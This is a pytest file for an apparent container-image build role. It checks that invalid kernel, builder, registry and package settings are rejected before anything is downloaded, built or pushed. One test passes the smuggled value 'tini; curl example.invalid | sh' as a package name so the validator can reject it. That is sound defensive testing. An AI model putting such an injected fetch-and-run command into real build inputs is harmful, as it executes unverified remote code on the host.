"""Bad input fails with a clear message and leaves what existed before alone:
duplicate kernel names, a Python the pip flavor cannot provide, a missing
builder and an unreachable registry (a registry that refuses the push:
test_registry.py)."""

from __future__ import annotations

import pytest

from conftest import RUN_ID, run_role
from jupyter_probe import free_port

BUILD_STEPS = ("Download the wheels", "Build with podman:", "Build with docker:", "Push: ")


def assert_nothing_done(result):
    for step in BUILD_STEPS:
        assert not result.ran(step), f"{step!r} ran although the settings were rejected"


def test_duplicate_kernel_names():
    result = run_role({"image_kernels": [{"name": "python3"}, {"name": "python3", "display_name": "Again"}]})
    assert result.rc != 0
    assert "duplicate kernel names python3" in result.failure
    assert_nothing_done(result)


def test_pip_flavor_rejects_other_pythons():
    result = run_role({"image_kernels": [{"name": "py38", "python": "3.8"}, {"name": "py311", "python": "3.11"}]})
    assert result.rc != 0
    assert "kernel py38: python 3.8 is not available in the pip flavor" in result.failure
    assert "py311" not in result.failure
    assert_nothing_done(result)


def test_invalid_kernel_name_and_default_kernel():
    result = run_role({"image_kernels": [{"name": "bad name"}], "image_default_kernel": "other"})
    assert result.rc != 0
    assert "kernel name bad name is not valid" in result.failure
    assert "image_default_kernel other is not one of the kernels" in result.failure


def test_unknown_builder_is_refused_by_the_argument_spec():
    result = run_role({"image_builder": "buildkit"})
    assert result.rc != 0
    assert "image_builder" in result.failure and "buildkit" in result.failure


def test_push_needs_a_registry():
    result = run_role({"image_push": True})
    assert result.rc != 0
    assert "image_push needs image_registry" in result.failure


def test_os_packages_must_be_debian_package_names():
    result = run_role({"image_pip_os_packages": ["tini", "tini; curl example.invalid | sh"],
                       "image_code_server_os_packages": ["python3=3.11.2-1+b1", "Git"],
                       "image_frontend_os_packages": ["tini", "--allow-unauthenticated"]})
    assert result.rc != 0
    assert "image_pip_os_packages: tini; curl example.invalid | sh is not a Debian package" in result.failure
    assert "image_code_server_os_packages: Git is not a Debian package" in result.failure
    assert "image_frontend_os_packages: --allow-unauthenticated is not a Debian package" in result.failure
    assert "image_pip_os_packages: tini is not" not in result.failure and "python3=" not in result.failure
    assert_nothing_done(result)


@pytest.mark.parametrize("builder", ["podman", "docker"])
def test_missing_builder(builder, base_image, registry):
    """Fails before the minutes of downloads a new kernel would need, and
    before any build or push."""
    repository = f"remotedev-test/{RUN_ID}/missing-builder-{builder}"
    variables = {
        "image_builder": builder, "image_pip_base_image": base_image, "image_registry": registry,
        "image_registry_tls": False, "image_push": True, "image_repository": repository,
        # A requirement set no other test downloads: its wheelhouse is never cached.
        "image_kernels": [{"name": "python3", "packages": ["six==1.15.0"]}],
    }
    if builder == "podman":
        variables["image_podman_executable"] = "/nonexistent/podman"
        expected = "image_builder is podman, but `/nonexistent/podman` does not work"
        reason = "cannot run it, is it installed?"
    else:
        variables["image_docker_host"] = "unix:///nonexistent/docker.sock"
        expected = "image_builder is docker, but no Docker daemon answers at unix:///nonexistent/docker.sock"
        reason = "No such file or directory"
    result = run_role(variables)
    assert result.rc != 0
    assert expected in result.failure
    assert_nothing_done(result)
    assert reason in result.failure, "the reason is missing from the message"


def test_unreachable_registry(base_image, tmp_path):
    """Refused before any work: with an empty cache the wheels would be
    downloaded first if the registry were only asked afterwards."""
    address = f"127.0.0.1:{free_port()}"
    result = run_role({"image_pip_base_image": base_image, "image_registry": address,
                       "image_registry_tls": False, "image_push": True, "image_cache_dir": str(tmp_path / "cache")})
    assert result.rc != 0
    assert f"cannot look up remotedev/jupyter-server in the registry {address}" in result.failure
    assert "Nothing was built or pushed" in result.failure
    assert_nothing_done(result)
